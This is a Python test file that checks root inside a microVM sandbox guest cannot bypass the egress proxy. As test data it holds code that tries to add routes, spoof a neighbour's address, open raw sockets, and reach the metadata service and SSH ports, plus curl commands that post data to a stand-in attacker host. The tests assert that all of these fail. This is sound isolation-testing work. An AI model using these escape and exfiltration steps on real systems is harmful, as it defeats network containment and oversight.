"""A microVM guest cannot route around the egress proxy: its root may not change the guest's
network, and the VM's NIC leads into a network namespace of its own whose only way out is the
sandbox's link to the gateway, and only while it has a policy (backends/microvm_net.py). One VM
(QEMU under TCG here)."""

from __future__ import annotations

import pytest

from tests.attacks.conftest import require_tier
from tests.network.conftest import ALLOWED, ATTACKER, METADATA, net_home, world  # noqa: F401 - fixtures
from warmbox import Network, Sandbox
from warmbox.backends import microvm_net
from warmbox.network import netns

pytestmark = [pytest.mark.sandbox, pytest.mark.microvm]
GW = netns.GATEWAY
NEIGHBOUR = netns.SUBNET.network_address + 17  # another sandbox's link address


# one guest process tries every destination (a Python start costs ~0.7 s under TCG): one line each
CONNECT = """
import socket, sys
for target in sys.argv[1:]:
    host, port = target.rsplit(":", 1)
    try:
        socket.create_connection((host, int(port)), timeout=3).close()
        print(target, "connected")
    except OSError as e:
        print(target, "failed", e.errno)
"""


# as root in the guest (the image has no iproute2: the ioctls themselves): a default route through
# the host's end of the tap, a neighbour's link address as a second source address, a packet socket
# for frames of its own
ROUTE_AROUND = f"""
import ctypes, fcntl, socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
def sa(ip):
    return struct.pack("HH4s8x", socket.AF_INET, 0, socket.inet_aton(ip))
dev = ctypes.create_string_buffer(b"eth0")
rt = struct.pack("L16s16s16sHhLPhPLLH6x", 0, sa("0.0.0.0"), sa("{microvm_net.HOST_ADDR}"), sa("0.0.0.0"),
                 0x1 | 0x2, 0, 0, 0, 0, ctypes.addressof(dev), 0, 0, 0)
for what, call in (
    ("route", lambda: fcntl.ioctl(s, 0x890B, rt)),  # SIOCADDRT, RTF_UP | RTF_GATEWAY
    ("address", lambda: fcntl.ioctl(s, 0x8916, struct.pack("16s16s", b"eth0:1", sa("{NEIGHBOUR}")))),
    ("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW)),
):
    try:
        call()
        print(what, "done")
    except PermissionError:
        print(what, "refused")
"""
BYPASS = (
    f"{ATTACKER}:80",
    f"{ALLOWED}:80",
    f"{METADATA}:80",
    f"{microvm_net.HOST_ADDR}:22",  # the VM namespace's own end: nothing listens or answers
    f"{GW}:22",  # the gateway: the proxy and DNS ports only
)


def _connects(sb, *targets: str) -> list[str]:
    """The targets root in the guest could connect to."""
    r = sb.commands.run(["python3", "-c", CONNECT, *targets], user="root", timeout=120)
    lines = r.stdout.splitlines()
    assert r.exit_code == 0 and len(lines) == len(targets), (r.stdout, r.stderr)
    return [line.split()[0] for line in lines if line.split()[1] == "connected"]


def _root(sb, cmd: str):
    return sb.commands.run(["/bin/sh", "-c", cmd], user="root", timeout=60)


def test_microvm_guest_root_cannot_route_around_the_proxy(net_home, world):  # noqa: F811 - fixtures
    require_tier(net_home, "microvm")
    world.clear_logs()
    with Sandbox.create(tier="microvm", timeout=300, home=net_home) as sb:
        # network "none": its namespace has no link; even the proxy and DNS are out of reach
        # root in the guest is root of a user namespace: the guest kernel's network is not its to change
        r = sb.commands.run(["python3", "-c", ROUTE_AROUND], user="root", timeout=60)
        assert r.stdout.split("\n") == ["route refused", "address refused", "packet refused", ""], (r.stdout, r.stderr)
        assert _connects(sb, *BYPASS, f"{GW}:{netns.PROXY_PORT}") == []
        for cmd in ("getent hosts allowed.test", f"curl -sS --max-time 5 --noproxy '*' http://{ATTACKER}/up -d x"):
            r = _root(sb, cmd)
            assert r.exit_code != 0, (cmd, r.stdout, r.stderr)
        sb.network.update(Network(allow=["allowed.test"]))  # a link for the running VM
        r = sb.commands.run(["/bin/sh", "-c", "curl -sS --max-time 8 http://allowed.test/hello.txt"], timeout=60)
        assert r.exit_code == 0 and r.stdout == "hello from the allowed site\n", r.stderr
        # with the link: still only the gateway's proxy (and DNS) port, under the policy
        assert _connects(sb, *BYPASS, f"{GW}:{netns.PROXY_PORT}") == [f"{GW}:{netns.PROXY_PORT}"]
        r = _root(sb, "curl -sS --max-time 8 -o /dev/null -w '%{http_code}' http://attacker.example.com/up -d x")
        assert r.stdout == "403", (r.stdout, r.stderr)
        # what the proxy saw came from this sandbox's link address (the guest's own address was rewritten)
        assert {e.decision for e in sb.network.log() if e.host == "attacker.example.com"} == {"deny"}
    assert world.log("attacker") == [] and world.log("metadata") == []
    assert {rec["client"] for rec in world.log("allowed")} == {"192.0.2.1"}  # through the proxy only
